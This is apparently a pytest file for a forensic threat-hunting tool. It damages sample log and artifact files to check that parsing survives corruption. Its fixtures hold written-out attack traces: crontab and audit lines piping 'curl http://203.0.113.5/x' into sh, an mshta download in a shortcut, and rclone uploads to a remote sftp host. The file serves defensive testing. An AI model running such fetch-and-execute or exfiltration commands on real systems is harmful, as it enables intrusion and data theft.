"""Damaged copies of what every reader reads: the hunt lives, and what it says of a sound host is the same."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from firstbell.drill.intrusion.hives import make_tree, write_hive
from firstbell.investigate.hunts.readers.table import READERS
from firstbell.investigate.hunts.sources.table import find_kind
from tests.documents.compound import make_compound
from tests.investigate.hunts.journals import write_journal
from tests.investigate.hunts.made import MadeHost, security
from tests.investigate.hunts.test_desktops import make_history, make_link
from tests.investigate.hunts.test_exports import WHOLE
from tests.investigate.hunts.test_sources import make_dirty, make_uses, write_log
from tests.investigate.hunts.test_srum import SRUDB, database
from tests.investigate.hunts.test_starts import BASE, CONFIG, JOBS, OBJECTS, ORDINARY, RUN
from tests.investigate.hunts.test_text import make_wtmp
from tests.investigate.hunts.typed import write_audit

Sample = dict[str, bytes]
RECENT = "/C/Users/bob/AppData/Roaming/Microsoft/Windows/Recent"
HIVE = write_hive(make_tree({RUN: {"Upd": r"C:\Users\Public\u.exe -s"}}))
LINK = make_link("/c mshta http://203.0.113.5/x.hta")
AUTH = "".join(
    f"Nov 14 22:13:{at:02} fs01 sshd[71]: Accepted password for root from 203.0.113.5 port {at} ssh2\n"
    for at in range(40)
).encode()
WEB = "".join(
    f'203.0.113.5 - - [14/Nov/2023:22:13:{at:02} +0000] "POST /u.php?c={at} HTTP/1.1" 200 9 "-" "curl"\n'
    for at in range(40)
).encode()
ZEEK = (
    "#separator \\x09\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\torig_bytes\n"
    + "".join(f"17000000{at:02}.5\tC{at}\t10.0.0.5\t5{at}\t203.0.113.5\t443\t9000{at}\n" for at in range(40))
).encode()
IIS = (
    "#Fields: date time c-ip cs-method cs-uri-stem sc-status\n"
    + "".join(f"2023-11-14 22:13:{at:02} 203.0.113.5 POST /e.aspx 200\n" for at in range(40))
).encode()
LINES = "".join(f"2023/11/14 22:13:{at:02} INFO  : a/{at}.docx: Copied (new)\n" for at in range(40)).encode()
FIREWALL = b"Nov 14 22:13:01 fw CEF:0|F|G|1|1|traffic|1|src=10.0.0.5 dst=203.0.113.5 out=9000\n"
FILEZILLA = b"2023-11-14 22:13:01 1 1 Status: Connecting to 203.0.113.5:22...\r\n"
ANYDESK = b" info 2023-11-14 22:13:01.000 gsvc 1 1 anynet.any_socket - Logged in from 203.0.113.5:1\n"
SQUID = b"1700000001.5 9 10.0.0.5 TCP_TUNNEL/200 9000 CONNECT mega.nz:443 - DIRECT/203.0.113.5 -\n"
WINSCP = b"> 2023-11-14 22:13:01.000 Upload of file 'a' to '203.0.113.5'\r\n"
CURL = b"* Connected to 203.0.113.5 (203.0.113.5) port 443\n> PUT /x HTTP/1.1\n"
SCREEN = b"<Events><Event Time='2023-11-14T22:13:01Z' Process='cmd.exe'/></Events>"
POLICY = b"net use H: \\\\fs01\\home$\r\n"
MEGA = b"11/14-22:13:01.000001 1 INFO Upload complete: a.zip\n"
PREFETCH = b"\x1e\0\0\0SCCA" + random.Random(3).randbytes(4000)
CONF = b"[out]\ntype = sftp\nhost = 203.0.113.5\nuser = x\n" * 8

# a sound file of each reader, or what begins as one where nothing here writes such files
SAMPLES: dict[str, Sample] = {
    "registry": {
        f"{CONFIG}/SOFTWARE": make_dirty(HIVE, 9, 8),
        f"{CONFIG}/SOFTWARE.LOG1": write_log(HIVE, 8),
    },
    "srum": {SRUDB: database(30)},
    "tasks": {path: data for path, data in BASE.items() if "/Tasks/" in path},
    "wmi": {"/C/Windows/System32/wbem/Repository/OBJECTS.DATA": OBJECTS},
    "jobs": {"/C/ProgramData/Microsoft/Network/Downloader/qmgr.db": JOBS},
    "policy": {"/C/Windows/SYSVOL/sysvol/district.example/scripts/map.bat": POLICY * 9},
    "webroot": {path: data for path, data in ORDINARY.items() if path.endswith(".php")},
    "unix": {"/etc/crontab": b"* * * * * root curl http://203.0.113.5/x | sh\n" * 9},
    "utmp": {"/var/log/wtmp": make_wtmp([1_700_000_000 + at for at in range(20)])},
    "lastlog": {"/var/log/lastlog": bytes(292 * 9) + b"\x00\xf1\x53\x65pts/0" + bytes(280)},
    "auth": {"/var/log/auth.log": AUTH},
    "syslog": {"/var/log/syslog": AUTH.replace(b"sshd", b"cron")},
    "web": {"/var/log/nginx/access.log": WEB},
    "iis": {"/C/inetpub/logs/LogFiles/W3SVC1/u_ex231114.log": IIS},
    "zeek": {"/opt/zeek/logs/conn.log": ZEEK},
    "firewall": {"/var/log/firewall.log": FIREWALL * 20},
    "history": {"/root/.bash_history": b"#1700000000\nrclone copy /srv out:x\nls\n" * 9},
    "rclone": {"/root/rclone.log": LINES},
    "winscp": {"/C/Users/bob/winscp.log": WINSCP * 20},
    "filezilla": {"/C/Users/bob/filezilla.log": FILEZILLA * 20},
    "megasync": {"/C/Users/bob/MEGAsync.log": MEGA * 20},
    "curl": {"/tmp/curl.log": CURL * 20},
    "anydesk": {"/C/ProgramData/AnyDesk/ad.trace": ANYDESK * 20},
    "screenconnect": {"/C/ProgramData/ScreenConnect Client (a)/user.xml": SCREEN},
    "transfer_settings": {"/root/.config/rclone/rclone.conf": CONF},
    "prefetch": {"/C/Windows/Prefetch/RCLONE.EXE-1A2B3C4D.pf": PREFETCH},
    "links": {f"{RECENT}/a.lnk": LINK},
    "journal": {
        "/var/log/journal/a/system.journal": write_journal(
            [(1_700_000_000_000_000 + at, {"MESSAGE": f"line {at}", "_PID": "7"}) for at in range(40)]
        )
    },
    "jumplists": {
        f"{RECENT}/AutomaticDestinations/9b9cdc69c1c24e2b.automaticDestinations-ms": make_compound(
            {"1": LINK, "DestList": make_uses(4)}
        )
    },
    "audit": {"/var/log/audit/audit.log": write_audit("curl http://203.0.113.5/x | sh", "root") * 20},
    "exports": {"/C/Exports/Security.xml": WHOLE.encode()},
    "proxy": {"/var/log/squid/access.log": SQUID * 20},
}


def damage(data: bytes, rng: random.Random) -> bytes:
    """Bytes changed, a stretch zeroed, cut off, said twice, or noise put in."""
    out = bytearray(data)
    at = rng.randrange(len(out))
    kind = rng.randrange(5)
    if kind == 0:
        for _ in range(rng.randrange(1, 40)):
            out[rng.randrange(len(out))] = rng.randrange(256)
    elif kind == 1:
        out[at : at + 64] = bytes(len(out[at : at + 64]))
    elif kind == 2:
        del out[at:]
    elif kind == 3:
        out[at:at] = out[: rng.randrange(1, 4096)]
    else:
        out[at:at] = rng.randbytes(rng.randrange(1, 200))
    return bytes(out)


def find_samples(folder: Path) -> dict[str, Sample]:
    return {**SAMPLES, "browser": make_history(folder)}


def look(sound: Sample, damaged: Sample) -> tuple[list[str], list[str]]:
    """What a hunt says of a sound host beside a damaged one: its traces, and what of it was not read."""
    made = MadeHost(host="sound")
    made.add_night({**sound, "/C/Windows/System32/winevt/Logs/Security.evtx": [security(1)]}, paths=["/"])
    if damaged:
        made.add_night(damaged, paths=["/"], host="damaged")
    result = made.hunt()
    traces = [one for one in result.traces if one.host == "sound"]
    return (
        sorted(f"{one.sign} {one.time_ns} {one.message}" for one in traces),
        sorted(f"{one.path!r} {one.code} {one.reason}" for one in result.unread if one.host == "sound"),
    )


def make_damaged(sample: Sample, count: int, rng: random.Random, prefix: str) -> Sample:
    return {
        f"/{prefix}/{number}{path}": damage(data, rng)
        for number in range(count)
        for path, data in sample.items()
    }


def test_there_is_a_sample_for_every_reader_and_its_path_is_of_that_reader(tmp_path: Path) -> None:
    samples = find_samples(tmp_path)
    assert samples.keys() == READERS.keys()
    for name, sample in samples.items():
        kinds = [kind for path in sample if (kind := find_kind(path.encode())) is not None]
        assert kinds[0].reader == name


def test_damaged_files_of_all_readers_change_nothing_that_is_said_of_a_sound_host(tmp_path: Path) -> None:
    rng = random.Random(11)
    samples = find_samples(tmp_path)
    sound = {path: data for sample in samples.values() for path, data in sample.items()}
    damaged: Sample = {}
    for name, sample in samples.items():
        damaged |= make_damaged(sample, 2, rng, name)
    alone = look(sound, {})
    assert len(alone[0]) > 5
    assert look(sound, damaged) == alone


@pytest.mark.deep
@pytest.mark.parametrize("name", sorted(READERS))
def test_a_thousand_damaged_files_of_a_reader_leave_the_parent_alive(name: str, tmp_path: Path) -> None:
    sample = find_samples(tmp_path)[name]
    damaged = make_damaged(sample, 1000, random.Random(name), name)
    assert look(sample, damaged) == look(sample, {})
